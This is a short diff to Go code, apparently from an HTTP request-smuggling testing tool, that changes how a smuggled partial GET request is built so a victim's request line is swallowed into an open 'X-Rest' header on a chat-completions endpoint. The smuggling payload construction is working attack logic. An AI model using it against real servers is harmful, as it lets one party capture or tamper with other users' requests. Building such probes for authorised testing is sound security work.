@@ -134,9 +134,9 @@ func (t *trial) smuggle(ctx context.Context, a ambiguous, victim request, usual 
 	if t.target.Key != "" {
 		auth = "Authorization: Bearer " + t.target.Key + "\r\n"
 	}
-	// The rest is the beginning of a request; the victim's own first line ends in its
-	// last header.
-	rest := "GET " + marked + " HTTP/1.1\r\nHost: " + t.host + "\r\n" + auth + "X-Rest: "
+	// The rest is the beginning of a request: the victim's own first line ends in its
+	// last header, and the victim's Host is its own.
+	rest := "GET " + marked + " HTTP/1.1\r\n" + auth + "X-Rest: "
 	sent = strings.Replace(a.wire(t.host, "/v1/chat/completions", rest), "Content-Type:", auth+"Content-Type:", 1)
 	l, err := t.dial(ctx, t.next(), "http/1.1")
 	if err != nil {
